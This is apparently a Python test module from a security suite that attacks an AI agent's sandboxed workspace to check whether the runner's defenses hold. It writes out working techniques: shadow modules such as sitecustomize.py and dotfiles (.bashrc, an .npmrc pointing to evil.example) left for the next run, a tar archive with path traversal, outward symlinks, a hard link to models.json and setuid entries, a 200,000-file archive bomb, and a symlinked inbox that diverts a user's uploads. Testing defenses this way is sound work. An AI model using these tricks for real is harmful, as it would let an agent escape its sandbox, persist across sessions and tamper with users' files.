"""The workspace as a way into the next run, into the runner and into sub-agents."""

from __future__ import annotations

import contextlib
import io
import subprocess
import tarfile
from pathlib import Path

from dev.attack.inside.base import Outcome, Pod, attack, decide, held, untried
from dev.attack.inside.http import ask

MARKER = Path("/tmp/planted")
_PLANTED = (
    "json.py", "asyncio.py", "aiohttp.py", "ssl.py", "agent_runner.py", "agent_contract.py", "sitecustomize.py",
    "usercustomize.py", "encodings.py", "zstandard.py", "tarfile.py",
)  # fmt: skip
EVIL = "/run/agent/evil"


@attack("files-plant", "leave modules in the workspace that the next run's runner would import")
def plant(_pod: Pod) -> Outcome:
    """Plant them; the next run looks."""
    for name in _PLANTED:
        Path("/workspace", name).write_text(f"open({str(MARKER)!r}, 'a').write(__name__ + ' ')\nraise ImportError\n")
    for name, words in ((".npmrc", "registry=http://evil.example\n"), (".bashrc", f"touch {MARKER}\n"),
                        (".bash_profile", f"touch {MARKER}\n"), ("package.json", '{"type":"module","main":"x.js"}')):  # fmt: skip
        Path("/workspace", name).write_text(words)
    return held("left behind; the next run looks")


@attack("files-planted", "see what the runner of this run took from the workspace of the one before")
def planted(_pod: Pod) -> Outcome:
    """Look for what planted modules write."""
    there = [name for name in _PLANTED if Path("/workspace", name).exists()]
    if not there:
        return untried("the files of the run before are not there")
    words = MARKER.read_text() if MARKER.exists() else ""
    return decide(not words, f"imported: {words or 'none'} of {len(there)}")


def _add(
    tar: tarfile.TarFile,
    name: str,
    kind: bytes = tarfile.REGTYPE,
    link: str = "",
    data: bytes = b"evil",
    mode: int = 0o644,
) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, mode
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def _build_archive() -> bytes:
    """Build a packed workspace with every trick that a tar can hold."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        _add(tar, "good.txt", data=b"good")
        for name in ("../evil-up", "../../run/agent/evil", EVIL, "//run/agent/evil", "a/../../run/agent/evil"):
            _add(tar, name)
        _add(tar, "out", tarfile.SYMTYPE, "/run/agent")
        _add(tar, "out/evil")
        _add(tar, "up", tarfile.SYMTYPE, "../run/agent")
        _add(tar, "up/evil")
        _add(tar, "hard", tarfile.LNKTYPE, "/run/agent/pi/models.json")
        _add(tar, "hard", data=b"evil")
        _add(tar, "null", tarfile.CHRTYPE)
        _add(tar, "pipe", tarfile.FIFOTYPE)
        _add(tar, "suid", mode=0o6755)
        _add(tar, "inbox", tarfile.SYMTYPE, "/run/agent")
        for number in range(200):
            _add(tar, "d/" * number + "deep.txt", data=b"")
    return raw.getvalue()


def _pack(data: bytes) -> bytes:
    return subprocess.run(["zstd", "-q", "-c"], input=data, capture_output=True, timeout=20, check=True).stdout


async def _store(pod: Pod, data: bytes) -> int:
    return (await ask(pod, "PUT", "/v1/workspace", data=_pack(data), seconds=15)).status


@attack("files-archive", "store a workspace whose archive leads out of it", seconds=40)
async def archive(pod: Pod) -> Outcome:
    """Store it; the next run unpacks it, and looks."""
    status = await _store(pod, _build_archive())
    return held("stored; the next run looks") if status == 204 else untried(f"answered with {status}")


@attack("files-unpacked", "see what the archive of the run before did outside of the workspace")
def unpacked(_pod: Pod) -> Outcome:
    """Look for what it would have written, and for what is dangerous inside."""
    evil = [str(p) for p in (Path(EVIL), Path("/evil-up"), Path("/run/evil-up")) if p.exists()]
    with contextlib.suppress(OSError):
        evil += ["models.json"] if Path("/run/agent/pi/models.json").read_bytes() == b"evil" else []
    kinds = []
    for path in Path("/workspace").iterdir():
        with contextlib.suppress(OSError):
            mode = path.lstat().st_mode
            kinds += [f"{path.name} keeps setuid"] if mode & 0o6000 and path.is_file() else []
            kinds += [f"{path.name} is a pipe"] if path.is_fifo() else []
            kinds += [f"{path.name} leads out"] if path.is_symlink() and path.name == "inbox" else []
    return decide(not evil + kinds, f"{', '.join(evil + kinds) or 'nothing outside, nothing odd inside'}")


@attack("files-bomb", "store a small archive that unpacks to 200,000 empty files", seconds=60)
async def bomb(pod: Pod) -> Outcome:
    """Store it; the next run has to come up all the same."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for number in range(200_000):
            tar.addfile(tarfile.TarInfo(f"b/{number % 500}/{number}"))
    status = await _store(pod, raw.getvalue())
    return (
        held("stored; the next run has to come up")
        if status == 204
        else decide(status in {400, 413}, f"refused with {status}")
    )


@attack("files-bombed", "see what the archive of the run before cost this one")
def bombed(_pod: Pod) -> Outcome:
    """Count the files."""
    done = subprocess.run(["find", "/workspace", "-type", "f"], capture_output=True, timeout=30, check=False)
    count = done.stdout.count(b"\n")
    return decide(count <= 120_000, f"{count} files were unpacked; the run began")


@attack("files-inbox-link", "make the inbox a link, so that a person's next file lands elsewhere")
def inbox_link(_pod: Pod) -> Outcome:
    """Replace the folder; the next message with a file tells."""
    inbox = Path("/workspace/inbox")
    inbox.rename("/workspace/inbox-before")
    inbox.symlink_to("/run/agent")
    return held("replaced; the next message with a file tells")


@attack("files-inbox-linked", "see where the file of this message landed")
def inbox_linked(_pod: Pod) -> Outcome:
    """Look at where this very archive lies."""
    import sys  # noqa: PLC0415  # of this attack alone

    place = Path(sys.argv[0]).resolve()
    return decide(not str(place).startswith("/run/agent"), f"it lies at {place.parent}")
